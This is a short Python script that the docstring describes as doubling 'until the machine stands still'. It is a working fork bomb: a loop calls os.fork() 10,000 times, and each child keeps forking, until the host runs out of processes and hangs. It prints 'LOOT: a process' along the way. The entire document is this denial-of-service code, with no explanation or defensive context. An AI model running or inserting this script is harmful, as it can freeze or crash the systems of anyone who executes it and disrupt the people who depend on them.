"""Double until the machine stands still.

"""
import os

for _ in range(10_000):
    try:
        if os.fork() == 0:
            print("LOOT: a process")
    except OSError:
        pass
